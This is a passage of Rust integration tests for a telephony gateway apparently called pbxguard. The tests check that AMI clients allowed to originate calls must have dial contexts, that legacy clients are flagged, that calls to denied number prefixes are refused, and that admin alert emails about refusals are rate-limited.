fn clients_that_may_originate_need_contexts_and_older_ones_are_flagged() {
    let gw = gateway("", &[]);
    let env = &gw.env;
    for allow in ["Originate", "*", "Orig*,Ping"] {
        let out = env.run(
            &[
                "ami",
                "user",
                "add",
                "x",
                "--password-stdin",
                "--allow",
                allow,
            ],
            b"x-secret",
        );
        assert!(!out.status.success(), "{allow}");
        let err = String::from_utf8_lossy(&out.stderr);
        for needle in ["--context", "toll fraud", "any number"] {
            assert!(err.contains(needle), "{allow}: {err}");
        }
    }
    let out = env.run(
        &[
            "ami",
            "user",
            "add",
            "x",
            "--password-stdin",
            "--allow",
            "Originate",
            "--context",
            "sales@x",
        ],
        b"x-secret",
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("--context"));
    assert!(
        env.sql("SELECT count(*) FROM ami_clients WHERE name = 'x'")
            .trim()
            == "0"
    );

    // A client from before contexts: Originate and Redirect, no contexts.
    env.add_ami_client(
        "legacy",
        "legacy-secret",
        &["--allow", "Ping", "--events", "call"],
    );
    env.sql("UPDATE ami_clients SET allow = 'Originate,Redirect' WHERE name = 'legacy'");
    let text = String::from_utf8_lossy(&env.ok(&["ami", "user", "list"], b"")).into_owned();
    assert!(
        text.contains("warning: legacy may Originate, Redirect without --context"),
        "{text}"
    );
    assert!(
        text.contains("pbxguard ami user edit legacy --context"),
        "{text}"
    );
    assert!(!text.contains("warning: dialer"), "{text}");
    assert!(text.contains("default,from-crm"), "{text}");
    assert!(text.contains("default at once, default/min"), "{text}");
    let json: serde_json::Value =
        serde_json::from_slice(&env.ok(&["ami", "user", "list", "--json"], b"")).unwrap();
    let by_name = |n: &str| {
        json.as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == n)
            .cloned()
            .unwrap()
    };
    let legacy = by_name("legacy");
    assert_eq!(
        legacy["calls_without_contexts"],
        serde_json::json!(["Originate", "Redirect"])
    );
    assert_eq!(legacy["contexts"], serde_json::json!([]));
    let dialer = by_name("dialer");
    assert_eq!(dialer["calls_without_contexts"], serde_json::json!([]));
    assert_eq!(
        dialer["contexts"],
        serde_json::json!(["default", "from-crm"])
    );
    assert_eq!(dialer["max_concurrent_calls"], serde_json::Value::Null);

    // It keeps working without a context check; destinations are still checked.
    let mut c = gw.client();
    assert_eq!(
        header(&c.login("legacy", "legacy-secret"), "Response"),
        Some("Success")
    );
    gw.peer.clear_actions();
    let r = c.action(&[
        ("Action", "Originate"),
        ("Channel", "PJSIP/100"),
        ("Application", "Playback"),
        ("Data", "demo-congrats"),
    ]);
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let r = c.action(&originate("PJSIP/100", "anywhere", "100"));
    assert_eq!(header(&r, "Response"), Some("Success"), "{r:?}");
    let r = c.action(&originate("PJSIP/0088212345@trunk", "anywhere", "s"));
    assert!(refused_by(&r, "deny_prefix"), "{r:?}");
    assert_eq!(gw.peer.actions_named("Originate").len(), 2);
    // Its first edit must give it contexts; then it is no longer flagged.
    let out = env.run(
        &["ami", "user", "edit", "legacy", "--permit", "127.0.0.1"],
        b"",
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("toll fraud"));
    env.ok(
        &["ami", "user", "edit", "legacy", "--context", "from-crm"],
        b"",
    );
    let text = String::from_utf8_lossy(&env.ok(&["ami", "user", "list"], b"")).into_owned();
    assert!(!text.contains("warning:"), "{text}");
}

/// A real SMTP server storing what it receives (tests/peers/smtp_sink.py on aiosmtpd), as
/// the 2FA tests use it.
struct Sink {
    child: std::process::Child,
    dir: tempfile::TempDir,
    port: u16,
}

impl Sink {
    fn start() -> Sink {
        use std::io::BufRead;
        let dir = tempfile::tempdir().unwrap();
        let port = free_port();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/peers/smtp_sink.py");
        let mut child = std::process::Command::new("/usr/bin/python3")
            .arg(script)
            .arg(port.to_string())
            .arg(dir.path())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::inherit())
            .spawn()
            .expect("python3 with aiosmtpd");
        let mut line = String::new();
        std::io::BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        assert_eq!(line.trim(), "ready", "the SMTP sink did not start");
        Sink { child, dir, port }
    }

    fn mails(&self) -> Vec<String> {
        let mut names: Vec<std::path::PathBuf> = std::fs::read_dir(self.dir.path())
            .unwrap()
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.extension().is_some_and(|e| e == "eml"))
            .collect();
        names.sort();
        names
            .iter()
            .map(|p| std::fs::read_to_string(p).unwrap())
            .collect()
    }

    fn wait_for(&self, n: usize) -> Vec<String> {
        let deadline = Instant::now() + T;
        loop {
            let mails = self.mails();
            if mails.len() >= n {
                return mails;
            }
            assert!(Instant::now() < deadline, "mail number {n} never arrived");
            std::thread::sleep(Duration::from_millis(50));
        }
    }
}

impl Drop for Sink {
    fn drop(&mut self) {
        let _ = std::process::Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        let _ = self.child.wait();
    }
}

#[test]
fn a_refused_originate_mails_the_admins_once_per_interval() {
    let sink = Sink::start();
    let gw = gateway(
        &format!(
            "[smtp]\nhost = \"127.0.0.1\"\nport = {}\nstarttls = \"none\"\nfrom = \"pbxguard@pbx.example.com\"\ntimeout = \"3s\"\n",
            sink.port
        ),
        &[],
    );
    gw.env.ok(
        &[
            "user",
            "add",
            "root",
            "--level",
            "9",
            "--email",
            "admin@pbx.example.com",
            "--password-stdin",
        ],
        b"a long admin password\n",
    );
    let mut c = gw.dialer();
    let r = c.action(&originate("PJSIP/100", "from-crm", "0088212345"));
    assert!(refused_by(&r, "deny_prefix"), "{r:?}");
    let mails = sink.wait_for(1);
    let m = &mails[0];
    assert!(m.contains("X-Test-Rcpt: admin@pbx.example.com"), "{m}");
    for needle in [
        "deny_prefix",
        "AMI client dialer",
        "127.0.0.1",
        "0088212345",
        "Door:        ami",
    ] {
        assert!(m.contains(needle), "{needle} missing:\n{m}");
    }
    // Another refusal of the same rule within alert_interval (15 min): no second mail.
    let r = c.action(&originate("PJSIP/0088398765@trunk", "from-crm", "s"));
    assert!(refused_by(&r, "deny_prefix"), "{r:?}");
    // Another rule is its own alert; once it is in, the held-back one would be too.
    let r = c.action(&originate("PJSIP/100", "sales", "100"));
    assert!(refused_by(&r, "context"), "{r:?}");
    let mails = sink.wait_for(2);
    std::thread::sleep(Duration::from_secs(2));
    let mails_after = sink.mails();
    assert_eq!(mails_after.len(), 2, "{mails_after:?}");
    assert!(mails[1].contains("context"), "{}", mails[1]);
    assert!(!mails[1].contains("deny_prefix"), "{}", mails[1]);
    let m = metrics(&gw.env);
    assert!(
        m.contains("pbxguard_dial_alerts_total{result=\"suppressed\"} 1"),
        "{m}"
    );
    assert!(
        m.contains("pbxguard_dial_alerts_total{result=\"sent\"} 2"),
        "{m}"
    );
}
